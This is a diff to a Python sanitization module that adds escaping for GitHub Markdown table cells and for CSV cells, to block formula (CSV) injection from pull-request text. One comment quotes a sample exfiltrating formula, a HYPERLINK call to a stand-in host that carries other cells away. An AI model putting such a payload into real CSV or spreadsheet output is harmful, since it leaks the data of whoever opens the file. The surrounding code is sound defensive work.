@@ -1,14 +1,17 @@
-"""Make text from a submitted file safe to print on one line.
+"""Make text from a submitted file safe to print on one line, in a Markdown table, or in a spreadsheet.
 
 File names, model names and values come from whoever opened the pull
 request. Printed raw, a newline could start a forged log line, a control
 character could rewrite the terminal, and on GitHub Actions a line starting
 with `::` or containing `##[` anywhere is a workflow command. Everything that
-reaches a log goes through `one_line` (or `neutralize_json` for JSON text).
+reaches a log goes through `one_line` (or `neutralize_json` for JSON text);
+every Markdown table cell through `markdown_cell`; every text cell of a CSV
+table through `spreadsheet_cell`.
 """
 
 from __future__ import annotations
 
+import html
 import re
 import unicodedata
 from typing import TextIO
@@ -82,6 +85,37 @@ def neutralize_json(text: str) -> str:
     Lines of indented JSON never start with `::` outside a string.
     """
     return text.replace("##[", "\\u0023#[")
+
+
+def markdown_cell(text: object, limit: int = MAX_CHARS) -> str:
+    """Text from a pull request, inert in GitHub Markdown: no HTML, links, images, table breaks, pings."""
+    escaped = html.escape(one_line(text, limit), quote=True)
+    for char in "\\`*_[]|!":
+        escaped = escaped.replace(char, "\\" + char)
+    return _no_links_or_mentions(escaped)
+
+
+_ZERO_WIDTH_SPACE = "\u200b"
+# GitHub turns @name into a ping, and http://, https://, ftp://, www. and a@b.c into links.
+_AUTOLINK = re.compile(r"(?i)(@|://|\bwww\.)")
+
+
+def _no_links_or_mentions(text: str) -> str:
+    """A zero-width space after '@', ':' of '://' and 'www' breaks every ping and autolink, invisibly."""
+    return _AUTOLINK.sub(lambda m: m[0][0] + _ZERO_WIDTH_SPACE + m[0][1:], text)
+
+
+# A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (CWE-1236, "CSV injection"):
+# a model named =HYPERLINK("https://x/?"&A1, "open") would send the maintainer's cells away on a click.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+
+
+def spreadsheet_cell(text: str) -> str:
+    """A text cell no spreadsheet runs: one that starts with a formula character, at its start or after spaces,
+    gets a leading apostrophe (the spreadsheets' own mark for text, and OWASP's and ASVS's advice)."""
+    if text.startswith(_FORMULA_STARTS) or text.lstrip(" ").startswith(_FORMULA_STARTS):
+        return "'" + text
+    return text
 
 
 def _escape(ch: str) -> str:
